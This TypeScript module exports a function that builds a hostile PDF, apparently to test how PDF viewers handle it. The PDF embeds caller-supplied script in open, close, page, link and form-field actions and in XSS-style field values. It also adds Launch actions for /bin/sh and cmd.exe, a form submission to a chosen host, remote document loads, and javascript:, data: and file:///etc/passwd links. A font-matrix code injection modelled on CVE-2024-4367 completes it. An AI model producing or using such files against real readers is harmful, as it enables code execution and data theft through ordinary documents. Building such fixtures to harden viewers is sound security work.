import {
  beginText,
  endText,
  moveText,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  StandardFonts,
  setFontAndSize,
  showText,
} from '@cantoo/pdf-lib';

/** Makes a PDF that would run `script`, start a program, fetch, send or lead astray wherever a reader lets it. */
export async function hostilePdf(script: string, host: string): Promise<Uint8Array<ArrayBuffer>> {
  const document = await PDFDocument.create();
  const { context, catalog } = document;
  const page = document.addPage([400, 300]);
  page.drawText('An honest line', { x: 40, y: 270, size: 18, font: await document.embedFont(StandardFonts.Courier) });

  const text = (content: string) => PDFString.of(content.replace(/[\\()]/g, '\\$&'));
  const js = { S: 'JavaScript', JS: text(script) };
  const leadsTo = (address: string) => ({ S: 'URI', URI: text(address) });
  const launch = { S: 'Launch', F: text('/bin/sh'), Win: { F: text('cmd.exe') } };
  const submit = { S: 'SubmitForm', F: { FS: 'URL', F: text(`https://${host}/form`) }, Flags: 4 };
  const other = { S: 'GoToR', F: text(`https://${host}/other.pdf`), D: [0, 'Fit'], NewWindow: true };

  // On opening, on closing, by a name, and on coming to the page.
  catalog.set(
    PDFName.of('OpenAction'),
    context.obj({ ...js, Next: [launch, submit, other, leadsTo(`https://${host}/`)] }),
  );
  catalog.set(PDFName.of('AA'), context.obj({ WC: js, WS: js }));
  catalog.set(PDFName.of('Names'), context.obj({ JavaScript: { Names: [text('opened'), js] } }));
  page.node.set(PDFName.of('AA'), context.obj({ O: js, C: js }));

  // By links, and by a field.
  const harmful = [`javascript:${script}`, `data:text/html,<script>${script}</script>`, 'file:///etc/passwd'];
  const links = [js, launch, submit, other, ...harmful.map(leadsTo)].map((A, at) => ({
    ...{ Type: 'Annot', Subtype: 'Link', A },
    Rect: [40, 20 + at * 30, 360, 45 + at * 30],
  }));
  const events = { K: js, F: js, V: js, C: js, E: js, Fo: js };
  const field = context.register(
    context.obj({
      ...{ Type: 'Annot', Subtype: 'Widget', FT: 'Tx', T: text('name'), Rect: [40, 240, 360, 265], AA: events },
      ...{ V: text(`<img src=x onerror="${script}">`), RV: text(`<body><img src=x onerror="${script}"/></body>`) },
    }),
  );
  page.node.set(
    PDFName.of('Annots'),
    context.obj([...links.map((link) => context.register(context.obj(link))), field]),
  );
  catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [field], XFA: text(`<script>${script}</script>`) }));

  // By a font's matrix that is a piece of code, as in CVE-2024-4367.
  const FontMatrix = [1, 2, 3, 4, 5, text(`1); ${script} //`)];
  const font = {
    Type: 'Font',
    Subtype: 'Type1',
    BaseFont: 'Odd',
    FirstChar: 65,
    LastChar: 65,
    Widths: [600],
    FontMatrix,
  };
  page.node.setFontDictionary(PDFName.of('Odd'), context.register(context.obj(font)));
  const letter = showText(PDFHexString.of('41'));
  page.pushOperators(beginText(), setFontAndSize('Odd', 18), moveText(40, 200), letter, endText());
  return new Uint8Array(await document.save());
}
